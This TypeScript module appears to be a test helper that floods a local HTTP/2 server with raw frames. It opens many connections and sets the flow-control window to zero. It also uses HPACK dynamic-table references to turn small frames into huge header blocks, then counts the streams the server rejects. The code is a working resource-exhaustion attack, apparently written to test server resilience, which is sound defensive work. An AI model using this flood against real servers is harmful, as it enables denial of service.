// HTTP/2 connections that send many requests and read nothing: raw frames, because a compliant client opens no more
// streams than the server allows.
import { connect, type TLSSocket } from 'node:tls'

export interface FloodOptions {
  readonly port: number
  readonly connections: number
  readonly streams: number
  readonly heads: HeadKind
}

/** Large heads in few bytes on the wire: nine cookies of 4 KB, or as many of the smallest headers as are accepted. */
export type HeadKind = 'nine cookies' | 'tiny headers'

export interface Flood {
  /** Streams that the server rejected, with RST_STREAM or with a response without a body. */
  finished(): number
  close(): void
}

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9]
const [END_STREAM, ACK, END_HEADERS] = [1, 1, 4]
const LARGEST_FRAME = 16_384
/** A value that fits into the dynamic table of 4,096 bytes with its name and 32 bytes of overhead. */
const ENTRY = 4_000

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** An HPACK string without Huffman coding. */
function text(value: string): Buffer {
  const length: number[] = []
  if (value.length < 127) length.push(value.length)
  else {
    length.push(127)
    let rest = value.length - 127
    for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128)
    length.push(rest)
  }
  return Buffer.concat([Buffer.from(length), Buffer.from(value)])
}

/** A literal that is added to the dynamic table, with index 62; `cookie` has index 32 in the static table. */
const NEW_ENTRY: Readonly<Record<HeadKind, Buffer>> = {
  'nine cookies': Buffer.concat([Buffer.from([0x40 | 32]), text('c'.repeat(ENTRY))]),
  'tiny headers': Buffer.concat([Buffer.from([0x40]), text('x'), text('')]),
}
const SAME_ENTRY: Readonly<Record<HeadKind, Buffer>> = {
  'nine cookies': Buffer.alloc(9, 0x80 | 62),
  'tiny headers': Buffer.alloc(50_000, 0x80 | 62),
}

function request(isFirst: boolean, kind: HeadKind): Buffer {
  const line = [Buffer.from([0x82, 0x87, 0x04]), text('/privacy'), Buffer.from([0x01]), text('localhost')]
  return Buffer.concat([...line, isFirst ? NEW_ENTRY[kind] : Buffer.alloc(0), SAME_ENTRY[kind]])
}

function requestFrames(stream: number, block: Buffer): Buffer {
  const frames: Buffer[] = []
  for (let start = 0; start < block.length || start === 0; start += LARGEST_FRAME) {
    const isLast = start + LARGEST_FRAME >= block.length
    const flags = (start === 0 ? END_STREAM : 0) | (isLast ? END_HEADERS : 0)
    frames.push(
      frame(start === 0 ? HEADERS : CONTINUATION, flags, stream, block.subarray(start, start + LARGEST_FRAME)),
    )
  }
  return Buffer.concat(frames)
}

/** Opens all connections, sends all requests, and reads no response body: every stream's window is 0. */
export async function startFlood(options: FloodOptions): Promise<Flood> {
  const initialWindowSize = Buffer.from([0, 4, 0, 0, 0, 0])
  const requests = Array.from({ length: options.streams }, (_, number) =>
    requestFrames(2 * number + 1, request(number === 0, options.heads)),
  )
  const sent = Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, initialWindowSize), ...requests])
  const sockets: TLSSocket[] = []
  let finished = 0

  function start(): Promise<void> {
    return new Promise((resolve) => {
      const { port } = options
      const socket = connect({ port, host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false })
      sockets.push(socket)
      let unread = Buffer.alloc(0)
      socket.once('secureConnect', () => {
        socket.write(sent)
        resolve()
      })
      socket.on('data', (chunk: Buffer) => {
        unread = Buffer.concat([unread, chunk])
        while (unread.length >= 9 && unread.length >= 9 + unread.readUIntBE(0, 3)) {
          const length = unread.readUIntBE(0, 3)
          const [type, flags] = [unread.readUInt8(3), unread.readUInt8(4)]
          const payload = unread.subarray(9, 9 + length)
          if (type === SETTINGS && !(flags & ACK)) socket.write(frame(SETTINGS, ACK, 0, Buffer.alloc(0)))
          if (type === PING && !(flags & ACK)) socket.write(frame(PING, ACK, 0, payload))
          if (type === RST_STREAM || ((type === HEADERS || type === DATA) && flags & END_STREAM)) finished++
          unread = unread.subarray(9 + length)
        }
      })
      socket.on('error', () => {})
      socket.once('close', () => resolve())
    })
  }

  const AT_ONCE = 50
  for (let index = 0; index < options.connections; index += AT_ONCE) {
    const count = Math.min(AT_ONCE, options.connections - index)
    await Promise.all(Array.from({ length: count }, start))
  }
  return {
    finished: () => finished,
    close: () => {
      for (const socket of sockets) socket.destroy()
    },
  }
}
